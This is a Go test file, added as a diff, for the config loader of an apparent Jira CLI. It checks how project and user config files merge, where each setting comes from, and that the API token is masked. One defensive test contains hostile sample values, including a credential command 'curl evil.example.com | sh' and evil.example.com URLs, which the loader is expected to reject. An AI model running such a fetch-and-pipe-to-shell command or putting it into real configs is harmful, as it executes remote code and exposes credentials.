@@ -0,0 +1,261 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// useProjectFile writes a project config at the root of a temporary repo and
+// makes a subdirectory of it the working directory
+func useProjectFile(t *testing.T, content string) string {
+	root := t.TempDir()
+	projectPath := filepath.Join(root, ProjectFileName)
+	if err := os.WriteFile(projectPath, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to create project config: %v", err)
+	}
+
+	workDir := filepath.Join(root, "cmd", "tool")
+	if err := os.MkdirAll(workDir, 0755); err != nil {
+		t.Fatalf("Failed to create working directory: %v", err)
+	}
+
+	originalWorkingDirFunc := workingDirFunc
+	t.Cleanup(func() { workingDirFunc = originalWorkingDirFunc })
+	workingDirFunc = func() (string, error) { return workDir, nil }
+
+	return projectPath
+}
+
+func TestFindProjectFileNone(t *testing.T) {
+	originalWorkingDirFunc := workingDirFunc
+	defer func() { workingDirFunc = originalWorkingDirFunc }()
+	dir := t.TempDir()
+	workingDirFunc = func() (string, error) { return dir, nil }
+
+	path, err := FindProjectFile("")
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if path != "" {
+		t.Errorf("Expected no project file, got %s", path)
+	}
+}
+
+func TestFindProjectFileFromDir(t *testing.T) {
+	projectPath := useProjectFile(t, "traversal:\n  max_depth: 2\n")
+
+	// The working directory has no project file, but the given one does
+	workingDirFunc = func() (string, error) { return t.TempDir(), nil }
+	dir := filepath.Join(filepath.Dir(projectPath), "cmd")
+
+	path, err := FindProjectFile(dir)
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if path != projectPath {
+		t.Errorf("Expected %s, got %q", projectPath, path)
+	}
+}
+
+func TestLoadProjectFile(t *testing.T) {
+	t.Setenv("JIRA_BASE_URL", "")
+	t.Setenv("JIRA_USERNAME", "env@example.com")
+	t.Setenv("JIRA_API_TOKEN", "")
+	t.Setenv("JIRA_PROFILE", "")
+
+	useConfigFile(t, `jira:
+  base_url: https://jira.example.com
+  username: user@example.com
+  api_token: token123
+queries:
+  mine: assignee = currentUser()
+  team: project = TEAM
+traversal:
+  max_depth: 5
+  direction: inward
+hierarchy:
+  epic_level: 2
+mapping:
+  statuses:
+    In Review: in_progress
+  priorities:
+    Blocker: p0
+`)
+	projectPath := useProjectFile(t, `queries:
+  team: project = PROJ AND labels = backend
+traversal:
+  max_depth: 2
+hierarchy:
+  epic_level: 0
+sync:
+  removed: tombstone
+validation:
+  mode: drop
+fields:
+  story_points: customfield_10016
+mapping:
+  statuses:
+    In Review: blocked
+    QA: in_progress
+output:
+  format: json
+`)
+
+	config, err := Load()
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+
+	if config.ProjectFile != projectPath {
+		t.Errorf("Expected project file %s, got %q", projectPath, config.ProjectFile)
+	}
+	if config.Jira.BaseURL != "https://jira.example.com" {
+		t.Errorf("Expected user base URL, got %s", config.Jira.BaseURL)
+	}
+	if config.Traversal.MaxDepth != 2 || config.Traversal.Direction != "inward" {
+		t.Errorf("Expected project depth over user direction, got %+v", config.Traversal)
+	}
+	if level := config.Hierarchy.EpicLevel; level == nil || *level != 0 {
+		t.Errorf("Expected the project to disable the epic level, got %v", level)
+	}
+	statuses := config.Mapping.Statuses
+	if len(statuses) != 2 || statuses["In Review"] != "blocked" || statuses["QA"] != "in_progress" {
+		t.Errorf("Expected project statuses over the user's, got %v", statuses)
+	}
+	if got := config.Mapping.Priorities["Blocker"]; got != "p0" {
+		t.Errorf("Expected the user's priority mapping to be kept, got %q", got)
+	}
+	if config.Output.Format != "json" {
+		t.Errorf("Expected project output format json, got %q", config.Output.Format)
+	}
+
+	sources := make(map[string]Setting)
+	for _, setting := range config.Settings() {
+		sources[setting.Key] = setting
+	}
+	want := map[string]string{
+		"jira.base_url":              SourceUser,
+		"jira.username":              "$JIRA_USERNAME",
+		"jira.api_token":             SourceUser,
+		"queries.mine":               SourceUser,
+		"queries.team":               SourceProject,
+		"traversal.max_depth":        SourceProject,
+		"traversal.direction":        SourceUser,
+		"hierarchy.epic_level":       SourceProject,
+		"sync.removed":               SourceProject,
+		"validation.mode":            SourceProject,
+		"fields.story_points":        SourceProject,
+		"mapping.statuses.In Review": SourceProject,
+		"mapping.statuses.QA":        SourceProject,
+		"mapping.priorities.Blocker": SourceUser,
+		"output.format":              SourceProject,
+	}
+	for key, source := range want {
+		if got := sources[key].Source; got != source {
+			t.Errorf("Expected %s from %s, got %q", key, source, got)
+		}
+	}
+	if sources["jira.api_token"].Value == "token123" {
+		t.Error("Expected the API token to be masked")
+	}
+}
+
+func TestLoadProjectFileForbidsConnection(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		want    string
+	}{
+		{
+			name:    "base url",
+			content: "jira:\n  base_url: https://evil.example.com\n",
+			want:    "jira.base_url",
+		},
+		{
+			name:    "username",
+			content: "jira:\n  username: someone@example.com\n",
+			want:    "jira.username",
+		},
+		{
+			name:    "auth type",
+			content: "jira:\n  auth_type: bearer\n",
+			want:    "jira.auth_type",
+		},
+		{
+			name:    "keyring",
+			content: "jira:\n  use_keyring: true\n",
+			want:    "jira.use_keyring",
+		},
+		{
+			name:    "api token",
+			content: "jira:\n  api_token: secret\n",
+			want:    "jira.api_token",
+		},
+		{
+			name:    "credential command",
+			content: "jira:\n  credential_command: curl evil.example.com | sh\n",
+			want:    "jira.credential_command",
+		},
+		{
+			name:    "oauth client id",
+			content: "jira:\n  oauth:\n    client_id: client\n",
+			want:    "jira.oauth.client_id",
+		},
+		{
+			name:    "oauth client secret",
+			content: "jira:\n  oauth:\n    client_secret: secret\n",
+			want:    "jira.oauth.client_secret",
+		},
+		{
+			name:    "oauth callback url",
+			content: "jira:\n  oauth:\n    callback_url: https://evil.example.com/callback\n",
+			want:    "jira.oauth.callback_url",
+		},
+		{
+			name:    "oauth scopes",
+			content: "jira:\n  oauth:\n    scopes: [read:jira-work]\n",
+			want:    "jira.oauth.scopes",
+		},
+		{
+			name:    "profiles",
+			content: "profiles:\n  work:\n    base_url: https://acme.atlassian.net\n",
+			want:    "profiles",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			useConfigFile(t, "jira:\n  base_url: https://jira.example.com\n")
+			useProjectFile(t, tt.content)
+
+			_, err := Load()
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Expected error naming %s, got %v", tt.want, err)
+			}
+		})
+	}
+}
+
+func TestProjectDefaultProfile(t *testing.T) {
+	t.Setenv("JIRA_BASE_URL", "")
+	t.Setenv("JIRA_PROFILE", "")
+
+	useConfigFile(t, profilesConfig)
+	useProjectFile(t, "default_profile: onprem\n")
+
+	config, err := Load()
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if config.Profile != "onprem" {
+		t.Errorf("Expected the project's default profile, got %q", config.Profile)
+	}
+
+	for _, setting := range config.Settings() {
+		if setting.Key == "jira.base_url" && setting.Source != "profile onprem" {
+			t.Errorf("Expected base URL from the profile, got %q", setting.Source)
+		}
+	}
+}